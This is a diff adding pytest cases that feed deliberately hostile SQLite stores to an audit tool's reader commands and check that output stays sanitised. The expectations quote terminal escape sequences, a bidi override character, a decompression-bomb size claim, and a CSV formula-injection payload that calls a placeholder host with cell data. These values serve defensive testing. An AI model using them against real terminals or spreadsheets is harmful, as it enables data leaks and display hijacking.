@@ -387,3 +387,75 @@ def test_since_compares_times_not_text(db: Path) -> None:
     assert listed("--since", f"{tomorrow}T00:00+00:00") == 0
     assert listed("--until", tomorrow.isoformat()) == 3
     assert listed("--since", f"{tomorrow}T00:00+23:59") == 3  # an offset is converted to UTC
+
+
+# -- the corpus of hostile stores: tests/bad_inputs/stores/*.sql, each in every reader role ----
+STORES = ROOT / "tests" / "bad_inputs" / "stores"
+ROLES = {  # role → the command (TARGET: the record the case edits, by the start of its id)
+    "verify": ["verify"], "list": ["list"], "list-json": ["list", "--format", "json"],
+    "export": ["export"], "export-csv": ["export", "--format", "csv"],
+    "show": ["show", "TARGET"], "show-markdown": ["show", "TARGET", "--format", "markdown"],
+    "replay": ["replay", "TARGET"],
+}
+Expect = dict[str, tuple[int, str | None]]
+"""role → (exit status, a fragment of its output); roles not named exit 0."""
+
+STORE_CASES: dict[str, tuple[int, Expect]] = {  # file → (the record it edits, expectations)
+    "id-repaints-the-terminal.sql": (1, {
+        "verify": (1, "\\x1b[2K\\r ok: 37 record(s), chain intact (after 0 good record(s))"),
+        "list": (0, "\\x1b[2K\\r"), "list-json": (0, "\\u001b[2K\\r ok"),
+        "export": (0, "\\u001b[2K\\r ok"), "export-csv": (0, "\\x1b[2K\\r ok"),
+        "replay": (1, "\\x1b[2K\\r ok: 37 record(s), chain intact: replay DIFFERS")}),
+    "columns-drive-the-terminal.sql": (2, {
+        "verify": (1, "columns do not match its content"), "list": (0, "\\u202e"),
+        "export": (0, "\\u009b2J\\u001b]0;owned\\u0007"),
+        "export-csv": (0, "\\x9b2J\\x1b]0;owned\\x07"),
+        "show": (0, "engine 0.2.0\\x9b2J\\x1b]0;owned\\x07"),
+        "show-markdown": (0, "engine 0.2.0\\x9b2J\\x1b]0;owned\\x07")}),
+    "id-is-a-spreadsheet-formula.sql": (3, {
+        "verify": (1, 'BROKEN at record =HYPERLINK("http://example.invalid/?"&A1,"open")'),
+        "export-csv": (0, "'=HYPERLINK(")}),
+    "choices-not-json.sql": (2, {
+        **{role: (2, "its choices is not JSON") for role in ("list", "list-json", "export",
+                                                              "export-csv")},
+        "verify": (1, "its choices/rules_fired columns do not match its result")}),
+    "dictionary-missing.sql": (1, {
+        **{role: (2, "cannot be read (its dictionary 1 is missing)")
+           for role in ("export", "export-csv", "show", "show-markdown", "replay")},
+        "verify": (1, "its dictionary 1 is missing")}),
+    "body-claims-60-mib.sql": (1, {
+        **{role: (2, "its stored body claims 62,914,560 bytes")
+           for role in ("export", "export-csv", "show", "show-markdown", "replay")},
+        "verify": (1, "its stored body claims 62,914,560 bytes")}),
+}
+
+
+def test_every_store_case_has_an_expectation() -> None:
+    assert {p.name for p in STORES.glob("*.sql")} == set(STORE_CASES)
+
+
+@pytest.mark.parametrize("role", list(ROLES))
+@pytest.mark.parametrize("case", sorted(STORE_CASES))
+def test_a_hostile_store_in_every_reader_role(case: str, role: str, db: Path,
+                                             counted: list[int]) -> None:
+    """No traceback, no raw character a terminal acts on, no body decompressed whole past
+    what a record is, one error line; the exit status and what is said as expected."""
+    target, expect = STORE_CASES[case]
+    start = ids(db)[target - 1][:12]
+    conn = sqlite3.connect(db)
+    conn.executescript((STORES / case).read_text(encoding="utf-8"))
+    conn.close()
+    args = [start if arg == "TARGET" else arg for arg in ROLES[role]]
+    result = run("audit", *args, "--audit-db", str(db))
+    code, fragment = expect.get(role, (0, None))
+    output = result.stdout + result.stderr
+    assert result.exit_code == code, output[-2000:]
+    assert not any(char in output for char in (*RAW, "\x07", "\x08")), repr(output[-2000:])
+    if code == 2 or (code and role == "verify"):  # (a replay that DIFFERS prints its diff)
+        assert len(result.stderr.splitlines()) == 1, result.stderr
+    if fragment is not None:
+        assert fragment in output, output[-2000:]
+    if role == "export-csv":
+        cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert max(counted, default=0) < 2**20  # a record is ~20 kB; no bomb was decompressed
